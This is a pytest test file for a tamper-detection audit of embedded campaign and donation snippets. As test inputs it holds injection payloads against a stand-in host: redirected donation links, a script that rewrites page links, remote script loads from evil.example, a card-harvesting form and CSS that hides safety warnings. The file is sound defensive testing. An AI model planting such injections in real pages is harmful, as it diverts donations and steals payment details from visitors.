"""What somebody changed in a snippet is never taken for ours, whatever its check says."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

import pride_actions as pa
from pride_actions.audit.hiding import hides
from pride_actions.audit.visible import read_html
from pride_actions.renderers.scripts import script
from pride_actions.renderers.table import LAYOUTS, STYLES
from pride_actions.site import Settings, build
from tests.audit import hosts
from tests.audit.site import (
    GIVE,
    OFFICE,
    ON,
    PHONE,
    SIGN,
    WARNING,
    as_page,
    audited,
    catalog,
    example,
    page,
    rendered,
    statuses,
)
from tests.making import action

EVIL = "https://evil.example/give"

Seal = Callable[[str], str]

HOSTS: dict[str, Callable[[str], str]] = {"as pasted": str, "sanitised": hosts.sanitised}


def resealed(text: str) -> str:
    """Compute the check of a changed snippet anew, as anybody can who reads how it is made."""
    blank = re.sub(r"check=[0-9a-f]{10}", "check=0000000000", text)
    return blank.replace(
        "check=0000000000", f"check={hashlib.sha256(blank.encode()).hexdigest()[:10]}"
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of a site with one campaign."""
    out = tmp_path_factory.mktemp("built") / "site"
    site = Settings(on=ON, base_url="https://actions.example/pride", variants="none", gallery=False)
    build(catalog(), out, site)
    return out / "borders" / "en"


@pytest.mark.parametrize("name", ["html.html", "element.html", "index.html", "frame.html"])
def test_a_changed_number_in_a_file_of_a_site_is_a_change(
    name: str, built: Path, tmp_path: Path
) -> None:
    """Its seal is that of the snippet, whatever the site has put around it."""
    text = (built / name).read_text("utf-8")
    assert statuses(tmp_path, text) == ["current"]
    assert statuses(tmp_path, changed(text, ("3 nights", "9 nights"))) == ["altered"]


@pytest.mark.parametrize("own", [{}, {"title": "Ours", "credit": "By us"}])
def test_a_snippet_of_which_only_its_last_line_is_left_was_changed(
    own: dict[str, str], tmp_path: Path
) -> None:
    begin, end = re.findall("<section[^>]*>|pride-actions[^<]*", rendered(**own))
    assert statuses(tmp_path, page(f"{begin}<p>{end}</p></section>")) == ["altered"]


def later() -> pa.Catalog:
    """The catalog after an update of its pack: the checks of old snippets no longer fit."""
    return catalog(example(words={"summary": "People still wait at the border."}))


def changed(snippet: str, *pairs: tuple[str, str]) -> str:
    for old, new in pairs:
        assert old in snippet, old
        snippet = snippet.replace(old, new)
    return snippet


LINK = f'href="{GIVE}"'

# How a donation link can be changed in the HTML.
LINKS = {
    "another site": (LINK, f'href="{EVIL}"'),
    "another page": (LINK, 'href="https://unknown.example/give2"'),
    "a subdomain": (LINK, 'href="https://unknown.example.evil.example/give"'),
    "a user name": (LINK, 'href="https://unknown.example@evil.example/give"'),
    "no encryption": (LINK, 'href="http://unknown.example/give"'),
    "no protocol": (LINK, 'href="//unknown.example/give"'),
    "another port": (LINK, 'href="https://unknown.example:8443/give"'),
    "backslashes": (LINK, 'href="https:\\\\evil.example\\give"'),
    "a script": (LINK, 'href="javascript:location=1"'),
    "a script beside": (LINK, f'href="{GIVE}" onclick="location=1"'),
    "a Cyrillic letter": (LINK, 'href="https://unknоwn.example/give"'),
    "a wide letter": (LINK, 'href="https://ｕnknown.example/give"'),
    "two dashes": (LINK, 'href="https://un--known.example/give"'),
    "a tracking key": (LINK, f'href="{GIVE}?utm_source=evil"'),
    "a fragment": (LINK, f'href="{GIVE}#evil"'),
    "the first of two": (LINK, f'href="{EVIL}" {LINK}'),
    "no quotes": (LINK, f"href={EVIL}"),
    "a relative one": (LINK, 'href="/give"'),
    "a mail": (LINK, 'href="mailto:office@evil.example"'),
    "another mail box": (f"mailto:{OFFICE}", "mailto:office@evil.example"),
    "a copy of the mail": (f"mailto:{OFFICE}", f"mailto:{OFFICE}?bcc=spy@evil.example"),
    "another number": (f"tel:{PHONE}", "tel:+442072193009"),
}


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("attack", LINKS)
def test_a_changed_link_is_found_with_the_check_as_it_was(
    tmp_path: Path, attack: str, host: str
) -> None:
    snippet = HOSTS[host](changed(rendered(), LINKS[attack]))
    if "beside" in attack and host == "sanitised":
        assert "onclick" not in snippet
    else:
        assert statuses(tmp_path, page(snippet)) == ["altered"]


@pytest.mark.parametrize("attack", LINKS)
def test_a_changed_link_is_found_with_the_check_made_anew(tmp_path: Path, attack: str) -> None:
    snippet = resealed(changed(rendered(), LINKS[attack]))
    (found,) = audited(tmp_path, page(snippet))
    assert found.status == "altered"
    assert found.changes[0].kind == "link"


@pytest.mark.parametrize("attack", LINKS)
def test_a_changed_link_is_found_in_an_old_snippet(tmp_path: Path, attack: str) -> None:
    snippet = changed(rendered(), LINKS[attack])
    (found,) = audited(tmp_path, page(snippet), catalog=later())
    assert found.status == "altered"


@pytest.mark.parametrize("format", ["html", "markdown", "text", "json"])
@pytest.mark.parametrize("seal", [str, resealed], ids=["old check", "new check"])
def test_a_changed_link_is_found_in_every_format(tmp_path: Path, format: str, seal: Seal) -> None:
    snippet = changed(rendered(format), (GIVE, EVIL))
    (found,) = audited(tmp_path, *as_page(format, seal(snippet)))
    assert found.status == "altered"
    assert any(EVIL in str(change) for change in found.changes)


@pytest.mark.parametrize("seal", [str, resealed], ids=["old check", "new check"])
@pytest.mark.parametrize(
    "words",
    [
        ("Give through Cleared Group", "Give on evil.example"),
        (
            f'{LINK} rel="noopener noreferrer" referrerpolicy="no-referrer">Give',
            f'href="{EVIL}">Go',
        ),
        (f">{OFFICE}<", ">office@evil.example<"),
        (f">{PHONE}<", ">+442072193009<"),
        ("A bed, food and a lawyer.", f"A bed. Now at {EVIL}"),
        ("A bed, food and a lawyer.", "A bed. Now at evil.example/give"),
        ("A bed, food and a lawyer.", "A bed: write to help@evil.example"),
        ("A bed, food and a lawyer.", "A bed: call +44 20 7219 3009"),
        ("A bed, food and a lawyer.", "A bed: DE89 3704 0044 0532 0130 00"),
        ("A bed, food and a lawyer.", "A bed: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
    ],
    ids=[
        "label",
        "label and link",
        "mail label",
        "number label",
        "URL",
        "site",
        "mail",
        "number",
        "account",
        "coin",
    ],
)
def test_a_changed_text_that_names_another_place_is_found(
    tmp_path: Path, words: tuple[str, str], seal: Seal
) -> None:
    html = seal(changed(rendered(), words))
    assert statuses(tmp_path, page(html)) == ["altered"]


@pytest.mark.parametrize("seal", [str, resealed], ids=["old check", "new check"])
@pytest.mark.parametrize("format", ["html", "markdown", "text"])
def test_swapped_links_are_found(tmp_path: Path, format: str, seal: Seal) -> None:
    snippet = changed(rendered(format), (GIVE, "@@"), (SIGN, GIVE), ("@@", SIGN))
    text, name = as_page(format, seal(snippet))
    assert statuses(tmp_path, text, name) == ["altered"]


@pytest.mark.parametrize("seal", [str, resealed], ids=["old check", "new check"])
@pytest.mark.parametrize("which", [0, 1])
def test_a_removed_advisory_is_found(tmp_path: Path, which: int, seal: Seal) -> None:
    snippet = rendered()
    advisories = re.findall(r'<div class="pa-advisory.*?</div>', snippet, re.DOTALL)
    start = [snippet.index(advisories[0]), snippet.rindex(advisories[1])][which]
    snippet = snippet[:start] + snippet[start + len(advisories[which]) :]
    (found,) = audited(tmp_path, page(seal(snippet)))
    assert found.status == "altered"
    assert WARNING in found.message


# Words that are changed, added or taken away in the HTML.
WORDS = [
    ("3 nights", "8 nights"),
    ("and a lawyer.", "and a lawyer. The border is open."),
    ("be punished", "not be punished"),
    ("cold.", "cold"),
    ("not legal", "legal"),
    ("</h2>", "</h2><p>Do not sign.</p>"),
    ("</p>\n</div>\n</section>", "</p><p>Send money to me.</p>\n</div>\n</section>"),
    ("<dl>", "<iframe src='https://evil.example/'></iframe><dl>"),
    ("<dl>", "<img src='https://evil.example/account.png' alt='Our account'><dl>"),
    ("<dl>", "<form action='https://evil.example/'><input name=card></form><dl>"),
    ("<strong", "<s><strong"),
]
# What a sanitiser takes away, and what it leaves behind the stamp, where it belongs to nobody.
NOT_WHERE_SANITISED = ("<iframe", "<form", "</section>")


@pytest.mark.parametrize(
    ("old", "new", "host"),
    [
        (old, new, host)
        for old, new in WORDS
        for host in HOSTS
        if host != "sanitised" or not any(mark in old + new for mark in NOT_WHERE_SANITISED)
    ],
)
def test_changed_words_are_found_while_the_catalog_is_the_same(
    tmp_path: Path, old: str, new: str, host: str
) -> None:
    snippet = HOSTS[host](changed(rendered(), (old, new)))
    assert statuses(tmp_path, page(snippet)) == ["altered"]


@pytest.mark.parametrize(
    "hide",
    ["hidden", 'style="display:none"', 'style="visibility: hidden"', 'style="font-size:0"',
     'style="position:absolute;left:-9999px"', 'style="opacity:0"', "hidden=until-found"],
)  # fmt: skip
def test_the_true_one_hidden_and_a_false_one_shown_is_found(tmp_path: Path, hide: str) -> None:
    false = changed(rendered(), LINKS["another site"])
    (hidden, shown) = audited(tmp_path, page(f"<div {hide}>{rendered()}</div>{false}"))
    assert (hidden.status, shown.status) == ("unreadable", "altered")
    assert "hides" in hidden.message


def test_a_true_part_hidden_and_a_false_one_shown_is_found(tmp_path: Path) -> None:
    true = f'<a class="pa-button" {LINK}'
    false = f'<a href="{EVIL}">Give</a><span hidden>{true}'
    html = re.sub(f"({re.escape(true)}.*?</a>)", rf"{false[: -len(true)]}\1</span>", rendered())
    assert statuses(tmp_path, page(html)) == ["altered"]


@pytest.mark.parametrize(
    "hide",
    ['p hidden style="display:block"', 'p style="display:none;display:block"', "p popover",
     'div style="visibility:hidden"><p style="visibility:visible"', 'p style="left:-999px"',
     'p style="height:0"', 'dialog style="display:block"', 'datalist style="display:block"',
     "noscript"],
)  # fmt: skip
@pytest.mark.parametrize("added", [f'<a href="{EVIL}">Give here</a>', f'<a href="{EVIL}"></a>'])
def test_what_is_hidden_in_a_snippet_is_none_of_it(tmp_path: Path, hide: str, added: str) -> None:
    """A style may show it all the same, or a part of it, or show it to some readers."""
    html = changed(rendered(), ("<dl>", f"<{hide}>{added}</{hide.partition(' ')[0]}><dl>"))
    assert statuses(tmp_path, page(html)) == ["altered"]


@pytest.mark.parametrize(
    "around",
    ["details", "details><summary></summary", "meter", "progress", "marquee", "ruby><rp"]
    + [f'div style="{style}"' for style in (
        r"d\69 splay:none", "opacity:.01", "filter: opacity(0)", "scale: 0", "zoom: 0.01",
        "transform: translate(-9999px)", "translate: -100vw", "left: -99em", "font-size: 1px",
        "height: .5px", "height: 4px; overflow: hidden", "clip-path: polygon(0 0)",
        "mask: linear-gradient(#0000, #0000)", "color: #0000", "color: rgb(0 0 0 / 0)",
        "background: url(https://evil.example/)",
        "display: list-item; list-style-type: 'Give at evil'", "quotes: 'Give at evil' ''",
    )],
)  # fmt: skip
def test_nothing_around_a_part_keeps_it_from_readers(tmp_path: Path, around: str) -> None:
    start = rendered().index("<dl>")
    html = f"{rendered()[:start]}<{around}>{rendered()[start:]}"
    assert statuses(tmp_path, page(html)) == ["altered"]


@pytest.mark.parametrize(
    "added",
    [f'<meta http-equiv=refresh content="9;url={EVIL}">', f'<link rel=stylesheet href="{EVIL}">',
     f'<base href="{EVIL}">'],
)  # fmt: skip
def test_what_belongs_into_a_head_is_no_part_of_a_snippet(tmp_path: Path, added: str) -> None:
    html = rendered().replace("<dl>", f"{added}<dl>", 1)
    assert statuses(tmp_path, page(html)) == ["altered"]
    assert statuses(tmp_path, page(added + rendered())) == ["current"]


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_nothing_of_a_rendering_itself_counts_as_hidden(style: str, layout: str) -> None:
    read = read_html(rendered(style=style, layout=layout, exit_link=True))
    assert read.hidden == ()
    assert not {"[hidden]", "[div]", "[section]"} & {word.text for word in read.words}


@pytest.mark.parametrize(
    "scrap",
    ["/*", "transform:", "transform:scale", "translate(", "color:rgb(", "color:rgb(,", "\\"],
)
def test_declarations_that_repeat_themselves_take_no_time(scrap: str) -> None:
    assert not hides(scrap * 100_000)


HIDING = (
    ".pa-advisory{display:none!important}",
    ".pa .pa-advisory { Display : None }",
    ".pa-advisory{/**/display/**/:none}",
    r".pa-advisory{d\69 splay:none}",
    ".x{}.pa div:nth-child(3){position:absolute;left:-9999px}",
    "@media all{.pa-advisory{visibility:hidden}}",
    ".pa-advisory{opacity:0",
    ".pa-button::after{content:'at another site'}",
)


def test_a_snippet_imports_no_rules(tmp_path: Path) -> None:
    rule = f'<style>@import "{EVIL}";'
    snippet = rendered(style="scoped")
    assert statuses(tmp_path, page(snippet.replace("<style>", rule, 1))) == ["altered"]
    assert statuses(tmp_path, page(f"{rule}</style>{snippet}")) == ["current"]


@pytest.mark.parametrize("rule", HIDING)
@pytest.mark.parametrize("style", ["scoped", "shadow"])
def test_a_rule_that_hides_a_warning_is_found(tmp_path: Path, rule: str, style: str) -> None:
    snippet = rendered(style=style)
    assert statuses(tmp_path, page(snippet)) == ["current"]
    (inside,) = audited(tmp_path, page(snippet.replace("</style>", f"{rule}</style>", 1)))
    assert inside.status == "altered"
    assert "hides" in inside.message
    (before,) = audited(tmp_path, page(f"<style>{rule}</style>{snippet}"))
    assert before.status == "altered"


SCRIPT = "for (const link of document.links) link.href = 'https://evil.example/'"

RUNNING = {
    "a script": f"<script>{SCRIPT}</script>",
    "a module": f'<script type="module">{SCRIPT}</script>',
    "an old type": f"<script type=Text/JavaScript>{SCRIPT}</script>",
    "a script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "behind what is ours": '<script src="//evil.example/x.js">{ours}</script>',
    "in a drawing": f"<svg><script>{SCRIPT}</script></svg>",
    "from elsewhere in a drawing": '<svg><script href="//evil.example/x.js" /></svg>',
    "when something is pointed at": f'<b onpointerenter="{SCRIPT}"></b>',
    "when a drawing is loaded": f'<svg ONLOAD="{SCRIPT}"></svg>',
    "what ours became": "<script>{ours}//</script>",
}


@pytest.mark.parametrize("name", RUNNING)
@pytest.mark.parametrize("style", ["scoped", "inline", "none"])
def test_a_script_in_a_snippet_is_found(tmp_path: Path, name: str, style: str) -> None:
    running = RUNNING[name].replace("{ours}", script("exit.js"))
    snippet = rendered(style=style)
    at = snippet.index(">") + 1
    (finding,) = audited(tmp_path, page(snippet[:at] + running + snippet[at:]))
    assert finding.status == "altered"
    assert "script" in finding.message
    assert statuses(tmp_path, page(running + snippet)) == ["current"]


def test_an_event_handler_of_the_snippet_itself_is_found(tmp_path: Path) -> None:
    snippet = changed(rendered(), ("<section ", '<section onclick="steal()" '))
    (finding,) = audited(tmp_path, page(snippet))
    assert finding.status == "altered"
    assert 'onclick="steal()"' in finding.message


DATA = '<script type="application/ld+json">{"@type": "WebPage"}</script><script></script>'


def test_our_own_script_and_data_are_none_that_somebody_put_there(tmp_path: Path) -> None:
    snippet = rendered(style="scoped", exit_link=True, exit_script=True)
    assert "<script>" in snippet
    assert statuses(tmp_path, page(snippet)) == ["current"]
    assert statuses(
        tmp_path, page(re.sub(r"<script>.*?</script>", "", snippet, flags=re.DOTALL))
    ) == ["current"]
    at = snippet.index(">") + 1
    assert statuses(tmp_path, page(snippet[:at] + DATA + snippet[at:])) == ["current"]


def test_rules_for_other_parts_of_the_page_are_nobodys_business(tmp_path: Path) -> None:
    rules = "<style>.menu{display:none}.clearfix::after{content:'';}.pastry{opacity:0}</style>"
    for style in ("none", "scoped", "inline", "shadow"):
        assert statuses(tmp_path, page(rules + rendered(style=style, exit_link=True))) == [
            "current"
        ]


@pytest.mark.parametrize(
    "hide",
    ["<p hidden>x<p>{}</p>", "<!-->{}<!-- -->", "<!--->{}<!-- -->", "<!-- --!>{}<!-- -->",
     "<title>x</title>{}", "<dt hidden>x<dd>{}", "<noscript></noscript>{}"],
)  # fmt: skip
def test_what_only_seems_to_be_hidden_is_read(tmp_path: Path, hide: str) -> None:
    added = hide.format(f'<a href="{EVIL}">Give here</a>')
    html = changed(rendered(), ("<dl>", f"{added}<dl>"))
    assert statuses(tmp_path, page(html)) == ["altered"]


def test_a_shadow_root_is_what_readers_see(tmp_path: Path) -> None:
    html = rendered(style="shadow")
    assert html.count(LINK) == 2
    for at in (0, html.rindex(LINK)):
        false = html[:at] + html[at:].replace(LINK, f'href="{EVIL}"', 1)
        assert statuses(tmp_path, page(false)) == ["altered"]


@pytest.mark.parametrize("seal", [str, resealed], ids=["old check", "new check"])
@pytest.mark.parametrize(
    "intro",
    [f"Give at {EVIL}.", "Give at evil.example/give", "Account DE89 3704 0044 0532 0130 00"],
)
@pytest.mark.parametrize("format", ["html", "markdown", "text", "json"])
def test_own_words_lead_nowhere(tmp_path: Path, format: str, intro: str, seal: Seal) -> None:
    snippet = seal(rendered(format, intro=intro))
    (found,) = audited(tmp_path, *as_page(format, snippet))
    assert found.status == "altered"
    assert "own words" in found.message
    assert found.own.intro == ""


def test_own_words_cannot_be_added_later_as_a_link(tmp_path: Path) -> None:
    html = changed(
        rendered(),
        (" check=", " own=credit check="),
        ('<p class="pa-stamp"', f'<p><a href="{EVIL}">Give here</a></p><p class="pa-stamp"'),
    )
    assert statuses(tmp_path, page(html)) == ["altered"]


@pytest.mark.parametrize("word", ["Give", "https://evil.example/"])
def test_a_stamp_holds_no_other_words(tmp_path: Path, word: str) -> None:
    for old, new in ((" made=", f" {word} made="), (" check=", f" note={word} check=")):
        assert statuses(tmp_path, page(changed(rendered(), (old, new)))) == ["unreadable"]
    glued = changed(rendered(), ("pride-actions tests", f"{word}:pride-actions tests"))
    assert statuses(tmp_path, page(glued)) == ["altered"]


def test_a_link_around_the_stamp_is_found(tmp_path: Path) -> None:
    html = re.sub(r"(pride-actions tests.*?)(?=</small>)", rf'<a href="{EVIL}">\1</a>', rendered())
    assert statuses(tmp_path, page(html)) == ["altered"]


def test_another_day_in_the_stamp_does_not_help(tmp_path: Path) -> None:
    html = changed(rendered(), LINKS["another site"], ("made=2026-11-10", "made=2025-01-01"))
    assert statuses(tmp_path, page(html)) == ["altered"]


def test_a_document_of_json_that_somebody_changed_is_found(tmp_path: Path) -> None:
    def document() -> dict[str, object]:
        found: dict[str, object] = json.loads(rendered("json"))
        return found

    for name, value in (("summary", {"text": "All is well."}), ("new", f"see {EVIL}"), ("dir", "")):
        text = json.dumps(document() | {name: value})
        assert statuses(tmp_path, text, "view.json") == ["altered"]
    twice = changed(rendered("json"), (f'"url": "{GIVE}"', f'"url": "{EVIL}", "url": "{GIVE}"'))
    assert statuses(tmp_path, twice, "view.json") == ["altered"]


def test_the_change_is_told_with_its_line(tmp_path: Path) -> None:
    html = page(changed(rendered(), LINKS["another site"]))
    (found,) = audited(tmp_path, html)
    line = html[: html.index(EVIL)].count("\n") + 1
    assert [(change.page, change.catalog, change.line) for change in found.changes] == [
        (EVIL, GIVE, line)
    ]
    assert f"leads to {EVIL} in place of {GIVE}" in found.message


def test_an_old_catalog_is_not_needed_to_know_a_share_link(tmp_path: Path) -> None:
    def sharing(text: str) -> pa.Catalog:
        share = {"url": "https://page.example/a", "posts": {"one": {"platform": "bluesky"}}}
        return catalog(
            example(
                {"tell": (action("share", share=share), {"title": "Tell", "posts": {"one": text}})}
            )
        )

    old, new = sharing("They wait."), sharing("They still wait.")
    html = pa.render(old["borders"], on=ON)
    (found,) = audited(tmp_path, page(html), catalog=new)
    assert found.status == "outdated"
    html = html.replace("page.example%2Fa", "evil.example%2Fa")
    (found,) = audited(tmp_path, page(html), catalog=new)
    assert found.status == "altered"
